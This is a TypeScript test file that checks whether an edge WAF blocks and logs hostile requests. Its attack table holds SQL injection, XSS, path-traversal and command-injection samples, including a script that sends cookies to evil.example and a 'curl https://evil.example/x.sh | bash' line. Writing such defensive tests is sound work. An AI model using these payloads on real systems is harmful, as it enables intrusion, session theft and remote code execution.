import { apiHeaders, auditRules } from '@palisade/contracts'
import { describe, expect, it } from 'vitest'
import { startEdge } from '../support/native/index.ts'
import {
  expectBlocked,
  expectFault,
  expectNotAudited,
  expectNothingOf,
  matchesOf,
  shellshock,
} from './edge-expectations.ts'
import { linesWith, order, partner, plainText, script } from './edge-samples.ts'
import { missingEdge, type Sent, send, useEdge } from './test-client.ts'

const skipped = missingEdge()

const search = (text: string) => `/api/orders/search?q=${encodeURIComponent(text)}`
const inNote = (note: string): Sent => ({ json: order({ note }) })
const written = (body: string): Sent => ({ body, headers: { 'content-type': 'application/json' } })
const inEscapes = '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e'

/** With what the WAF gets to see of each: a line, a text, or the name of the client. */
const attacks: [string, string, Sent, string][] = [
  ['SQL in a query', search("x' UNION SELECT password_hash FROM users--"), {}, 'ARGS:line'],
  ['SQL in a tautology', search("' or '1'='1"), {}, 'ARGS:line'],
  ['a path to the system’s files in a query', '/api/orders/search?q=../../../../etc/passwd', {}, 'ARGS:line'],
  ['the same, encoded twice', '/api/orders/search?q=%252e%252e%252f%252e%252e%252fetc%252fpasswd', {}, 'ARGS:line'],
  ['a script in a query', search(script), {}, 'ARGS:line'],
  ['a command in a query', search('; cat /etc/passwd'), {}, 'ARGS:line'],
  [
    'a script in a note',
    '/api/orders',
    inNote('<script>fetch("//evil.example/"+document.cookie)</script>'),
    'ARGS:text',
  ],
  ['a script in an attribute', '/api/orders', inNote('<img src=x onerror=alert(1)>'), 'ARGS:text'],
  ['a script after an honest text', '/api/orders', inNote(`${plainText} ${script}`), 'ARGS:text'],
  ['SQL in a note', '/api/orders', inNote("1'; DROP TABLE orders; SELECT pg_sleep(10)--"), 'ARGS:text'],
  ['SQL of letters and quotes alone', '/api/orders', inNote("x' or 'a' like 'a"), 'ARGS:text'],
  ['SQL without a quote', '/api/orders', inNote('1 union select password from users'), 'ARGS:text'],
  ['a command in a note', '/api/orders', inNote('`curl https://evil.example/x.sh | bash`'), 'ARGS:text'],
  ['a command on a line of its own', '/api/orders', inNote('Hello\n/bin/cat /etc/passwd'), 'ARGS:text'],
  ['full-width letters', '/api/orders', inNote('＜script＞alert(1)＜/script＞'), 'ARGS:text'],
  ['a backtick that is one in normal form C alone', '/api/orders', inNote('\u1fefid\u1fef'), 'ARGS:text'],
  ['a semicolon that is one in normal form C alone', '/api/orders', inNote('x\u037ewhoami'), 'ARGS:text'],
  ['an encoded attack', '/api/orders', inNote('%3Cscript%3Ealert(1)%3C/script%3E'), 'ARGS:text'],
  ['an attack in entities', '/api/orders', inNote('&lt;script&gt;alert(1)&lt;/script&gt;<script>'), 'ARGS:text'],
  ['an attack in base64', '/api/orders', inNote('ZXZhbCgxKTsx'), 'ARGS:text'],
  ['SQL in a name', '/api/orders', { json: order({ customerName: "Ada' OR 1=1 UNION SELECT 1,2,3 --" }) }, 'ARGS:line'],
  ['a script deep in a line', '/api/orders', { json: order({}, { description: `">${script}` }) }, 'ARGS:line'],
  [
    'a script in the 50th line',
    '/api/orders',
    { json: order({ lines: linesWith(50, { description: script }) }) },
    'ARGS:line',
  ],
  ['an attack in escapes of JSON', '/api/orders', written(`{"note":"${inEscapes}"}`), 'ARGS:text'],
  [
    'an attack split by escapes',
    '/api/orders',
    written('{"note":"<scr\\u0069pt>al\\u0065rt(1)<\\/script>"}'),
    'ARGS:text',
  ],
  ['an attack under an escaped name', '/api/orders', written(`{"n\\u006fte":"${script}"}`), 'ARGS:text'],
  [
    'an escaped quote before an attack',
    '/api/orders',
    written('{"note":"Please \\" onload=alert(1) x=\\"<script>"}'),
    'ARGS:text',
  ],
  [
    'SQL in the name of a tenant',
    '/api/auth/sign-up/completion',
    { json: { tenant: { name: "x' OR 1=1--" } } },
    'ARGS:line',
  ],
  ['a scanner', '/api/orders', { headers: { 'user-agent': 'sqlmap/1.7' } }, 'REQUEST_HEADERS:User-Agent'],
  [
    'an attack in a header that goes on',
    '/api/orders',
    { headers: { 'user-agent': shellshock } },
    'REQUEST_HEADERS:User-Agent',
  ],
]

/** In fields that only programs write: nothing of it fits, so that the WAF need not know. */
const misplaced: [string, string, unknown, string, string][] = [
  [
    'a prototype in a field’s name',
    '/api/orders',
    { ['constructor.prototype.x']: script },
    '/constructor.prototype.x',
    'is not a known field',
  ],
  [
    'a list of passwords',
    '/api/auth/sign-in',
    { email: 'a@b.example', password: ['a', 'b', 'c'] },
    '/password',
    'must be of type string',
  ],
  [
    'SQL beside a password',
    '/api/auth/sign-in',
    { email: "a' OR 1=1--", password: 'x' },
    '/email',
    'is not in the required format',
  ],
]

describe.skipIf(skipped)(`the WAF of one VPS${skipped ? ` (${skipped})` : ''}`, () => {
  const running = useEdge()

  it.each(attacks)('[S53] [S58] [S59] blocks %s with a problem, and logs the reason', async (_, path, sent, where) => {
    const headers = { 'user-agent': 'node', ...sent.headers, origin: partner }
    const answer = await expectNothingOf(running, () => send(running.edge, path, { ...sent, headers }))
    expect(answer.headers).toMatchObject({ 'access-control-allow-origin': partner, vary: 'Origin' })
    const audited = await expectBlocked(running.edge, answer)
    // Neither the query nor the names of fields.
    expect(audited.request.uri).toBe(path.replace(/\?.*/, ''))
    expect(matchesOf(audited)).toContain(where)
    expect(matchesOf(audited)).not.toMatch(/customerName|ARGS:(?:note|q|lines|description)/)
  })

  it.each([
    ['of another site', 'https://evil.example', true],
    ['of a tenant, which anybody can become', 'https://shop.tenant.example', true],
    ['of the platform', partner, false],
    ['that no browser names', '', false],
  ])('[S62] says in its log whether a page %s may have caused a blocked request', async (_, origin, isOther) => {
    const forged = {
      'x-edge-other-origin': isOther ? '0' : '1',
      'sec-fetch-site': 'cross-site',
      'sec-fetch-mode': 'cors',
    }
    const headers = { 'user-agent': 'node', ...forged, ...(origin && { origin }) }
    const { messages } = await expectBlocked(running.edge, await send(running.edge, search(script), { headers }))
    const rules = messages.map(({ details }) => Number(details.ruleId))
    expect(rules.includes(auditRules.otherOrigin)).toBe(isOther)
  })

  it.each(misplaced)('[S53] does not inspect %s, which the edge refuses', async (_, path, json, pointer, detail) => {
    const answer = await expectNothingOf(running, () => send(running.edge, path, { json }))
    expectFault(answer, pointer, detail)
    await expectNotAudited(running.edge, answer)
  })

  it.each<[string, Sent]>([
    ['safe', { headers: { 'user-agent': 'node' } }],
    ['a read of an unknown client', { headers: { 'user-agent': 'an unknown client' } }],
    ['an order', { json: order() }],
  ])('says that the API is away, as a problem, to a request that is %s', async (_, sent) => {
    const alone = await startEdge({ upstreamPort: 1 })
    try {
      const answer = await send(alone, '/api/orders', { ...sent, headers: { ...sent.headers, origin: alone.url } })
      expect(answer.json()).toMatchObject({ code: 'unavailable', requestId: answer.headers['x-request-id'] })
      expect(answer.status).toBe(503)
      expect(answer.headers).toMatchObject({ ...apiHeaders, 'access-control-allow-origin': alone.url })
    } finally {
      await alone.stop()
    }
  })
})
